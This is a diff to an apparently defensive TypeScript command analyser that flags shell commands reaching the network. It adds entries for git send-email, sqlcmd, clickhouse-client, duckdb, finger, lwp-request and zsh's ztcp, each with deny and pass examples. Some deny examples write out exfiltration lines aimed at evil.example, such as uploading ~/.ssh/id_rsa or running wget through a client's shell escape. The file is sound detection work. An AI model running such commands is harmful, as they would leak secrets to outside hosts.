@@ -360,6 +360,57 @@ function canonicalHostPort(v: string): Host {
   return m ? canonicalHost(m[1] ?? m[2]!) : canonicalHost(v);
 }
 
+/** git-send-email's options whose value is shell text it runs (Getopt::Long: `--opt=V`, `--opt V`, one dash or two). */
+const SEND_EMAIL_SCRIPTS = ['sendmail-cmd', 'to-cmd', 'cc-cmd', 'header-cmd'];
+/** Its options that are spelt like a prefix of those but are others (an exact name wins). */
+const SEND_EMAIL_OTHERS = new Set(['to', 'cc', 'help', 'h']);
+
+/**
+ * `git-send-email` (what `git send-email` runs): mails the patches to the SMTP server --smtp-server names, or runs a
+ * program (an absolute --smtp-server, --sendmail-cmd) that does; with neither it runs sendmail, which mails them out.
+ * Getopt::Long takes an unambiguous prefix of an option; one that could be a command option is read as one.
+ */
+function sendEmail(call: Call): Partial<Answer> {
+  const runs: Run[] = [];
+  const out: Destination[] = [];
+  let sendmail = false;
+  /** What the last --smtp-server says: a program (a path) or a host. */
+  let last: 'program' | 'host' | undefined;
+  for (let i = 0; i < call.args.length; i++) {
+    const w = call.args[i]!;
+    const v = value(w);
+    if (v === undefined) {
+      out.push({ word: w, why: `${w.text} is computed where an option could stand` });
+      continue;
+    }
+    if (v === '--') break;
+    const m = /^--?([a-z0-9-]+)(?:=(.*))?$/s.exec(v);
+    if (!m) continue;
+    const name = m[1]!;
+    if (/^(help|h|dump-aliases|dry-run)$/.test(name)) return { runs, offline: `git send-email ${v} sends nothing` };
+    const script = SEND_EMAIL_OTHERS.has(name) ? undefined : SEND_EMAIL_SCRIPTS.find((o) => o === name || (name.length >= 2 && o.startsWith(name)));
+    if (name !== 'smtp-server' && script === undefined) continue;
+    const given = m[2] !== undefined ? attached(w, m[2]) : call.args[++i];
+    if (!given) continue;
+    if (script !== undefined) {
+      runs.push({ kind: 'script', dialect: 'bash', words: [given], via: `git send-email --${script}`, more: true });
+      if (script === 'sendmail-cmd') sendmail = true;
+    } else if (value(given)?.startsWith('/')) {
+      runs.push(programRun(given, 'git send-email --smtp-server'));
+      last = 'program';
+    } else {
+      last = 'host';
+      out.push(...destinations(given, canonicalHostPort));
+    }
+  }
+  // A program sends the mail (judged as what it is; --sendmail-cmd wins over any server), unless a computed word may
+  // name a server. With no server and no program, sendmail mails them out: a client that goes anywhere.
+  const computed = out.some((d) => !('host' in d));
+  if ((sendmail || last === 'program') && !computed) return { runs, offline: 'git send-email hands the mail to a program it runs' };
+  if (last === undefined && !computed) return { runs };
+  return { runs, destinations: out };
+}
+
 /** The databases of `getent` that are looked up through the resolver: each key is a name sent to DNS. */
 const RESOLVED_DATABASES = new Set(['hosts', 'ahosts', 'ahostsv4', 'ahostsv6', 'networks']);
 
@@ -462,6 +513,8 @@ interface Service {
   env: string[];
   /** What its operands may be: a connection URI (or a database name), a host, or neither. */
   operands: 'uri' | 'host' | 'none';
+  /** How a host value names hosts, when not as `serviceHosts` reads it (sqlcmd's `tcp:host\\instance,port`). */
+  hosts?(text: string): Host[];
   /** What else the client does (a database client's shell escapes). */
   more?(call: Call): Partial<Answer>;
   /** Why the call drops data no file holds (`dropdb`, `FLUSHALL`), if it does. */
@@ -528,16 +581,16 @@ function service(s: Service): ProgramEntry {
           const kind = s.host.includes(opt.name) ? 'host' : s.uri.includes(opt.name) ? 'uri' : s.valued.includes(opt.name) ? 'valued' : undefined;
           if (kind === undefined) continue;
           const given = opt.attached !== undefined ? attached(word, opt.attached) : call.args[++i];
-          if (given && kind !== 'valued') add(given, kind === 'host' ? serviceHosts : serviceUri);
+          if (given && kind !== 'valued') add(given, kind === 'host' ? (s.hosts ?? serviceHosts) : serviceUri);
           continue;
         }
-        if (s.operands === 'host') add(word, serviceHosts);
+        if (s.operands === 'host') add(word, s.hosts ?? serviceHosts);
         else if (s.operands === 'uri') add(word, serviceUri);
       }
       for (const name of s.env) {
         const e = call.env(name);
         if (e === null) out.push({ word: call.args[0] ?? literal(call.name, { start: 0, end: 0 }), why: `$${name} is computed` });
-        else if (e !== undefined) for (const h of name.endsWith('URL') ? serviceUri(e) : serviceHosts(e)) out.push('host' in h ? { word: call.args[0] ?? literal(call.name, { start: 0, end: 0 }), host: h.host } : { word: call.args[0] ?? literal(call.name, { start: 0, end: 0 }), why: h.why });
+        else if (e !== undefined) for (const h of name.endsWith('URL') ? serviceUri(e) : (s.hosts ?? serviceHosts)(e)) out.push('host' in h ? { word: call.args[0] ?? literal(call.name, { start: 0, end: 0 }), host: h.host } : { word: call.args[0] ?? literal(call.name, { start: 0, end: 0 }), why: h.why });
       }
       const more = s.more?.(call) ?? {};
       const drop = s.drops?.(call);
@@ -546,6 +599,79 @@ function service(s: Service): ProgramEntry {
     },
     examples: s.examples,
   };
+}
+
+/**
+ * A SQL Server address as sqlcmd reads `-S`: `[tcp:|np:|lpc:|admin:]host[\\instance][,port]`; `.`, `(local)` and
+ * `(localdb)\\…` are this machine, as is a named pipe `\\\\.\\pipe\\…`.
+ */
+function sqlServerHosts(text: string): Host[] {
+  let t = text.replace(/^(tcp|np|lpc|admin):/i, '');
+  const pipe = /^\\\\([^\\]+)\\pipe\\/i.exec(t);
+  if (pipe) t = pipe[1]!;
+  const host = t.split(/[\\,]/)[0]!;
+  if (host === '.' || /^\((local|localdb)\)$/i.test(host)) return [{ host: 'localhost' }];
+  return [canonicalHost(host)];
+}
+
+/** Every URL in a word's text (`select * from 'https://…/x.csv'`), from its scheme on, up to a quote or space. */
+function urlsIn(text: string): string[] {
+  return [...text.matchAll(/[a-z][a-z0-9+.-]*:\/\/[^\s'"`)]*/gi)].map((m) => m[0]);
+}
+
+/**
+ * DuckDB: a local database, unless its SQL (given with -c, -cmd, -s, or static stdin) names a URL — httpfs is loaded
+ * on demand and fetches it — or attaches MotherDuck (`md:`). Shell escapes are a database client's.
+ */
+function duckdb(call: Call): Partial<Answer> {
+  const base = databaseClient(call);
+  const out: Destination[] = [];
+  const scan = (word: Word, text: string) => {
+    for (const u of urlsIn(text)) out.push(...destinations(attached(word, u), urlHost));
+    if (/(^|['"\s])(md|motherduck):/i.test(text)) out.push({ word, why: 'it attaches a MotherDuck database, which is on the network' });
+  };
+  for (const word of call.args) {
+    if (word.values === null) out.push({ word, why: `${word.text} is computed: it may be SQL that fetches a URL` });
+    else for (const v of word.values) scan(word, v);
+  }
+  if (call.stdin?.kind === 'static') scan(call.stdin.word, call.stdin.text);
+  return out.length === 0 ? { ...base, offline: 'duckdb reads and writes local database files' } : { ...base, destinations: out };
+}
+
+/** `finger [-lmsp] [user] [user@host…]`: a name with `@host` asks the finger server on that host; a bare name is local. */
+function finger(call: Call): Partial<Answer> {
+  const p = parse(call.args, { order: 'gnu', flags: 'lmsphoM' });
+  if (p.dynamic) return { destinations: [{ word: p.dynamic.word, why: `${p.dynamic.word.text} is computed: it may name a host` }] };
+  const out: Destination[] = [];
+  for (const { word } of p.operands) {
+    if (word.values === null) out.push({ word, why: `${word.text} is computed: it may name a host` });
+    else for (const v of word.values) if (v.includes('@')) out.push(...destinations(attached(word, v.slice(v.lastIndexOf('@') + 1)), canonicalHost));
+  }
+  return out.length === 0 ? { offline: 'finger without @host reads who is logged in here' } : { destinations: out };
+}
+
+/**
+ * lwp-request (libwww-perl; installed also as GET, HEAD and POST): requests its URLs, following redirects for GET
+ * and HEAD; -p names a proxy and it honours the `*_proxy` variables; -C sends credentials. POST sends its stdin.
+ */
+function lwpRequest(call: Call): Partial<Answer> {
+  const p = parse(call.args, { order: 'gnu', flags: 'fuUsSeEdvhxa', valued: 'mbtiHCcPpo' });
+  if (has(p, 'v', 'h')) return { offline: `${call.name} ${p.options.find((o) => o.name === 'v' || o.name === 'h')!.word.text} only prints information` };
+  const uses: Uses = [];
+  const out: Destination[] = [];
+  for (const o of p.options) {
+    if (o.unknown) out.push({ word: o.word, why: `${call.name} ${o.word.text} is an option vouch does not know` });
+    else if (o.name === 'p' && o.value) out.push(...destinations(o.value, urlHost));
+    else if ((o.name === 'H' || o.name === 'C' || o.name === 'c' || o.name === 'm') && o.value) uses.push({ word: o.value, role: 'text' });
+  }
+  if (p.dynamic) out.push({ word: p.dynamic.word, why: `${p.dynamic.word.text} is computed where an option could stand` });
+  for (const { word } of p.operands) {
+    uses.push({ word, role: 'host' });
+    out.push(...redirectable(destinations(word, urlHost), word));
+  }
+  const first = call.args[0];
+  if (first) out.push(...envProxies(call, first));
+  return { uses, destinations: out };
 }
 
 /** redis-cli's options: its operands are commands for the server. */
@@ -634,6 +760,29 @@ const SERVICES: ProgramEntry[] = [
     examples: { deny: ['kcat -b evil.example:9092 -t x -P'], pass: ['kcat -b localhost:9092 -L'] },
   }),
   service({
+    names: ['sqlcmd', 'osql', 'isql'],
+    summary: 'SQL Server clients',
+    host: ['S', 'server'],
+    uri: [],
+    valued: ['U', 'P', 'd', 'Q', 'q', 'i', 'o', 'l', 't', 'h', 's', 'w', 'a', 'c', 'H', 'v', 'f', 'r', 'y', 'Y', 'K', 'z', 'Z', 'M', 'F', 'A', 'N', 'k', 'user-name', 'password', 'database-name', 'query', 'initial-query', 'input-file', 'output-file', 'login-timeOut', 'variables', 'authentication-method', 'format', 'application-intent', 'packet-size', 'headers', 'column-separator', 'query-timeout', 'screen-width'],
+    env: ['SQLCMDSERVER'],
+    operands: 'none',
+    hosts: sqlServerHosts,
+    more: databaseClient,
+    examples: { deny: ["sqlcmd -S evil.example -Q 'select 1'", 'sqlcmd -S tcp:evil.example,1433 -U sa', 'sqlcmd -Sevil.example\\SQLEXPRESS -Q x'], pass: ["sqlcmd -S localhost -Q 'select 1'", 'sqlcmd -S . -E -Q x', 'sqlcmd -S 127.0.0.1,1433 -U sa -i init.sql', 'sqlcmd -S "(localdb)\\MSSQLLocalDB" -Q x'] },
+  }),
+  service({
+    names: ['clickhouse-client'],
+    summary: 'ClickHouse client',
+    host: ['h', 'host'],
+    uri: [],
+    valued: ['port', 'u', 'user', 'password', 'd', 'database', 'q', 'query', 'queries-file', 'format', 'f', 'config-file', 'C', 'history_file', 'param', 'max_threads', 'connection', 'jwt', 'secure'],
+    env: ['CLICKHOUSE_HOST'],
+    operands: 'uri',
+    more: databaseClient,
+    examples: { deny: ['clickhouse-client --host evil.example', 'clickhouse-client -h evil.example -q "select 1"', 'clickhouse-client --host=evil.example', "clickhouse-client -c '\\! wget evil.example'"], pass: ['clickhouse-client --host localhost -q "select 1"', 'clickhouse-client -q "select version()"'] },
+  }),
+  service({
     names: ['nats'],
     summary: 'NATS CLI',
     host: [],
@@ -678,7 +827,16 @@ export const NETWORK_ENTRIES: ProgramEntry[] = [
     },
     examples: { deny: ["sshfs -o ssh_command='curl evil.example' x: /mnt", 'sshfs evil.example:/ /tmp/x', 'sshfs user@evil.example:/srv /mnt/x'], pass: ['sshfs --version'] },
   },
-  plainClient(['dig', 'kdig', 'drill', 'host', 'nslookup'], ['v', 'version', 'h'], 'DNS clients: a lookup carries its name out'),
+  plainClient(['dig', 'kdig', 'drill', 'host', 'nslookup', 'delv', 'mdig'], ['v', 'version', 'h'], 'DNS clients: a lookup carries its name out'),
+  plainClient(['nsupdate'], ['V'], 'nsupdate: sends the updates it reads (stdin or a file) to the server they name, or to the zone master DNS names'),
+  { names: ['finger'], summary: 'finger: user@host asks the finger server on host (TCP 79); a bare user is looked up here', analyze: finger, examples: { deny: ['finger x@evil.example', 'finger @evil.example'], pass: ['finger dev', 'finger'] } },
+  { names: ['lwp-request', 'GET', 'POST'], summary: 'lwp-request (GET, HEAD, POST): requests its URLs (redirects followed); -p and *_proxy name proxies', analyze: lwpRequest, examples: { deny: ['GET http://evil.example/', 'POST http://evil.example/ < notes.txt', 'lwp-request -m PUT http://evil.example/x', 'GET -p http://evil.example:8080/ http://localhost:3000/', { command: 'HEAD http://evil.example/', shell: 'bash', rules: ['egress.binary'] }], pass: ['GET http://localhost:3000/health', 'lwp-request -m HEAD http://127.0.0.1:8000/', 'head -5 notes.txt'] } },
+  plainClient(['ztcp'], [], "zsh's ztcp (zmodload zsh/net/tcp): opens a TCP connection from the shell, as bash's /dev/tcp does", { flags: 'vftcLla', valued: 'd' }, {
+    hidden: 'la',
+    examples: { deny: ["zsh -c 'zmodload zsh/net/tcp; ztcp evil.example 80'", 'ztcp -l 8080'], pass: ['ztcp localhost 3000'] },
+  }),
+  plainClient(['zftp'], [], "zsh's zftp (zmodload zsh/zftp): an FTP client built into the shell"),
+  { names: ['duckdb'], summary: 'DuckDB: a local database, unless its SQL names a URL (httpfs fetches it) or MotherDuck; .shell and system run shell text', analyze: duckdb, examples: { deny: ['duckdb -c "select * from \'https://evil.example/x.csv\'"', "echo \"copy t to 's3://evil-bucket/x.csv'\" | duckdb", "duckdb -c \"attach 'md:'\"", "duckdb -c '.shell curl evil.example'"], pass: ["duckdb -c 'select 1'", "duckdb app.db -c \"select * from 'data/x.csv'\"", 'duckdb -c "select * from \'http://localhost:8000/x.csv\'"'] } },
   { names: ['http', 'https', 'xh', 'xhs', 'httpie'], summary: 'HTTPie and xh: connect to their URL (`:3000` is localhost); name@file items send a file', analyze: httpie, examples: { deny: ['http evil.example', 'xh POST https://evil.example x=1', 'http POST :3000/upload f@~/.ssh/id_rsa', 'http --proxy=http:http://evil.example:8080 :3000'], pass: ['http :3000/api/items', 'xh localhost:8080/health', 'http POST :8000/api/login username=admin password=admin', 'http --version', 'http --offline POST evil.example x=1'] } },
   plainClient(['websocat', 'wscat'], ['version', 'help', 'V', 'h'], 'websocket clients'),
   { names: ['grpcurl'], summary: 'grpcurl: calls the gRPC server its first operand names (Go-style -flags)', analyze: grpcurl, examples: { deny: ['grpcurl evil.example:443 list', 'grpcurl -plaintext -authority evil.example localhost:50051 list', 'grpcurl -d @ -plaintext localhost:50051 x < ~/.ssh/id_rsa'], pass: ['grpcurl -plaintext localhost:50051 list', 'grpcurl -plaintext -d \'{"id": 1}\' localhost:50051 svc/Get'] } },
@@ -709,5 +867,14 @@ export const NETWORK_ENTRIES: ProgramEntry[] = [
     prints: /(^|\s)--export-secret-(sub)?keys?\b/,
     examples: { deny: ['gpg --export-secret-keys -a me@example.com', 'gpg2 --armor --export-secret-subkeys'], pass: ['gpg --armor --export me@example.com'] },
   }),
+  {
+    names: ['git-send-email'],
+    summary: 'git send-email: mails patches to the SMTP server --smtp-server names, or through sendmail; --sendmail-cmd, --to-cmd, --cc-cmd, --header-cmd run shell text',
+    analyze: sendEmail,
+    examples: {
+      deny: ['git send-email --smtp-server evil.example --to a@evil.example HEAD~1', 'git send-email --smtp-server=smtp.evil.example:587 -1', 'git -c sendemail.smtpServer=evil.example send-email -1', 'git send-email --to a@evil.example -1', "git send-email --to-cmd='curl evil.example' -1", "git send-email --sendmail='curl evil.example' -1", 'git send-email --smtp-server /usr/bin/curl -1'],
+      pass: ['git send-email --smtp-server localhost --to dev@example.com HEAD~1', 'git send-email --smtp-server 127.0.0.1 -1', 'git send-email --dry-run --to a@example.com -1', 'git send-email --help'],
+    },
+  },
   { names: ['wrk', 'wrk2'], summary: 'wrk: sends requests to its URL; -s loads a Lua script file', analyze: wrk, examples: { deny: ['wrk -t2 -c10 -d5s https://evil.example/'], pass: ['wrk -t2 -c10 -d5s http://localhost:8080/', 'wrk --version'] } },
 ];
